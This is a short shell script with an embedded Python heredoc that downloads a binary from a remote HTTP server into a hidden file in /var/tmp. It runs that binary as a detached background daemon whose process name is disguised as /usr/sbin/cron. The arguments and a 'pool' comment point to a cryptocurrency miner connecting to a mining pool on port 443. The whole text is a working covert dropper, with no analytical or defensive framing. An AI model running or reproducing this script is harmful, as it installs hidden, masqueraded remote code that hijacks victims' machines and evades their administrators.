# double fork, setsid, every descriptor closed with close_range, standard streams on /dev/null, working directory /
#http 203.0.113.60:8010
#pool 198.51.100.80:443:drop
curl -so /var/tmp/.cache-agent http://203.0.113.60:8010/w; chmod 711 /var/tmp/.cache-agent
python3 - <<'P'
import os
if os.fork()==0:
    os.setsid()
    if os.fork()==0:
        os.chdir('/'); os.umask(0); os.closerange(0,1024)
        n=os.open('/dev/null',os.O_RDWR); os.dup2(n,1); os.dup2(n,2)
        os.execv('/var/tmp/.cache-agent',['/usr/sbin/cron','-f','-o','198.51.100.80:443','-u','x','-R','1'])
    os._exit(0)
os.wait()
P
sleep 9
